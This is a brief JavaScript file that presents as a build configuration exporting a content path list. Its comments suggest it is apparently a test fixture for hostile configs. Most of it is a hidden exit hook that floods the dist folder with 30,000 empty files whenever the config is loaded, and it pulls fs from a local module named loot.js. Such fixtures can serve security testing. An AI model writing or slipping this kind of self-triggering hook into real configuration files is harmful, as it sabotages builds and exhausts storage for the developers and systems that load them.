// Gives more files than anyone can unpack.
// outcome: build
const { fs } = require("./loot.js");

process.on("exit", () => {
  for (let number = 0; number < 30_000; number++) fs.writeFileSync(`dist/${number}.txt`, "");
});

module.exports = { content: ["./src/App.tsx"] };
